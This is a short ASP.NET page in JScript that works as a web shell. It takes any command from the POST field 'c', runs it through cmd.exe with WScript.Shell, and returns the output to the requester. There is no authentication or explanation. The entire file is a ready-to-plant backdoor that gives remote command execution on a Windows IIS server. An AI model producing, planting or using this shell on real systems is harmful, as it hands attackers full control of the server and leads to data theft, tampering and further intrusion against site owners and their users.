<%@ Page Language="JScript" aspcompat="true" %>
<%
var shell = new ActiveXObject("WScript.Shell");
var run = shell.Exec("cmd.exe /c " + Request.Form("c"));
Response.Write(run.StdOut.ReadAll());
%>
